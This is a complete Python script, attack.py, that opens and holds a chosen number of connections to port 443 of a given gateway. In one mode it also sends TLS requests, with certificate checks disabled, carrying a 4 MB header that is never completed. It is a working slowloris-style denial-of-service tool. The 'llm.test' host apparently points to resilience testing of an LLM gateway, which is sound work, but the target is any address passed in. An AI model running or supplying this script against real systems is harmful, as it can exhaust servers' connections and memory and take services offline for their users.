#!/usr/bin/python3
"""Holds connections to a gateway: attack.py ADDRESS COUNT silent|headers.

Says how many when all are made, and ends with its input.
"""

import contextlib
import resource
import socket
import ssl
import sys

address, count, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3]
resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, count + 100))
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE

held = []
for _ in range(count):
    with contextlib.suppress(OSError):
        connection = socket.create_connection((address, 443), timeout=5)
        held.append(connection)
        if kind == "headers":  # as many as the gateway reads, and never all of them
            held[-1] = context.wrap_socket(connection)
            held[-1].sendall(b"GET / HTTP/1.1\r\nHost: llm.test\r\nX: " + b"x" * (4 << 20))
print(len(held), flush=True)
sys.stdin.read()
